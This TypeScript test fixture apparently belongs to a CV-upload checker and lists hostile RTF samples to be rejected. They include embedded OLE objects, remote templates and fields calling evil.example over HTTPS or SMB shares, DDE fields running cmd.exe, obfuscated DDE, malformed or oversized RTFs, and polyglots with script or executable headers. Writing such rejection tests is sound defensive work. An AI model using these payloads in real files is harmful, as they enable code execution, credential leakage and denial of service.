import { rtf } from "./cv-documents";
import type { Hostile } from "./hostile-cvs";

// Rich texts that must not be kept as a CV, each with why.

const raw = (text: string) => Buffer.from(text, "latin1");
const field = (instruction: string) => rtf(`{\\field{\\*\\fldinst{${instruction}}}{\\fldrslt x}}`);
const OLE = "{\\*\\objclass Word.Document.12}{\\*\\objdata 0105000002000000}";

export const HOSTILE_RTFS: Hostile[] = [
  ["an RTF with an embedded object", rtf(`{\\object\\objemb${OLE}}`), "objects"],
  ["an RTF with a linked object", rtf("{\\object\\objautlink\\objupdate}"), "objects"],
  ["an RTF with an HTML object", rtf("{\\object\\objhtml}"), "objects"],
  ["an RTF with a control", rtf("{\\object\\objocx}"), "objects"],
  ["an RTF with the data of an object alone", rtf("{\\*\\objdata 0105}"), "objects"],
  ["an RTF with an object in a group nobody knows", rtf("{\\*\\whatever{\\*\\objdata 0105}}"), "objects"],
  ["an RTF with an object in its fonts", raw("{\\rtf1{\\fonttbl{\\f0{\\object\\objemb}}}x}"), "objects"],
  ["an RTF with an object behind a picture", rtf("{\\pict\\bin4 {{{{}{\\object}"), "objects"],
  ["an RTF with an object in capitals", rtf("{\\OBJECT}"), "objects"],
  ["an RTF with an object with a number", rtf("{\\object1\\objw12}"), "objects"],
  ["an RTF with an object in the result of a field", rtf("{\\field{\\fldrslt{\\object}}}"), "objects"],
  ["an RTF with a template from the internet", rtf("{\\*\\template https://evil.example/x.dotm}"), "remote"],
  ["an RTF with a template from a share", rtf("{\\*\\template \\\\\\\\evil.example\\\\x.dotm}"), "remote"],
  ["an RTF with a template in other signs", rtf("{\\*\\template \\'68ttps://evil.example}"), "remote"],
  ["an RTF with a template in groups", rtf("{\\*\\template {https:}{//evil.example}}"), "remote"],
  ["an RTF with a template whose path has no end", rtf(`{\\*\\template ${"a".repeat(9000)}}`), "remote"],
  ["an RTF with a next file elsewhere", rtf("{\\*\\nextfile https://evil.example/x.rtf}"), "remote"],
  ["an RTF with a table of files elsewhere", rtf("{\\*\\filetbl{\\file\\fid1 \\\\\\\\evil.example\\\\x}}"), "remote"],
  ["an RTF with a font file elsewhere", rtf("{\\fonttbl{\\f2{\\*\\fontfile https://evil.example/x.ttf}}}"), "remote"],
  ["an RTF with a picture from the internet", field(' INCLUDEPICTURE "https://evil.example/p.png" '), "remote"],
  ["an RTF with a picture from a share", field(' INCLUDEPICTURE "\\\\\\\\evil.example\\\\p.png" '), "remote"],
  ["an RTF with text from the internet", field(' INCLUDETEXT "https://evil.example/t.rtf" '), "remote"],
  ["an RTF with a link that loads", field(' LINK Word.Document "https://evil.example/t.docx" '), "remote"],
  ["an RTF with DDE", field(' DDE "c:\\\\cmd.exe" "/k calc" '), "macros"],
  ["an RTF with DDEAUTO", field("ddeauto c:\\\\x"), "macros"],
  ["an RTF with DDE in pieces", field("{D}{\\b DE}{AUTO} x"), "macros"],
  ["an RTF with DDE in other signs", field("\\'44\\'44E x"), "macros"],
  ["an RTF that never ends", raw("{\\rtf1 Sam"), "damaged"],
  ["an RTF with a group that never ends", raw("{\\rtf1 {\\b Sam}{"), "damaged"],
  ["an RTF whose binary part is longer than it", raw("{\\rtf1 Sam{\\pict\\bin2147483647 x}}"), "damaged"],
  ["an RTF of groups in groups", raw(`{\\rtf1 ${"{".repeat(3000)}${"}".repeat(3000)}}`), "damaged"],
  ["an RTF of nothing but groups", raw(`{\\rtf1${"{}".repeat(200_000)}`), "damaged"],
  ["an RTF without a word", rtf(""), "empty"],
  ["an RTF with fonts alone", raw("{\\rtf1{\\fonttbl{\\f0 Arial;}}}"), "empty"],
  ["an RTF with an author alone", raw("{\\rtf1{\\info{\\author Sam}}}"), "empty"],
  ["an RTF and a web page in one", raw(`{\\rtf1 Sam}<html><script>alert(1)</script>${"x".repeat(99)}`), "two-in-one"],
  ["an RTF and a program in one", raw(`{\\rtf1 Sam}MZ${"\x90".repeat(200)}`), "two-in-one"],
  ["an RTF and another in one", raw(`{\\rtf1 Sam}${"{\\rtf1 Ada}".repeat(40)}`), "two-in-one"],
];
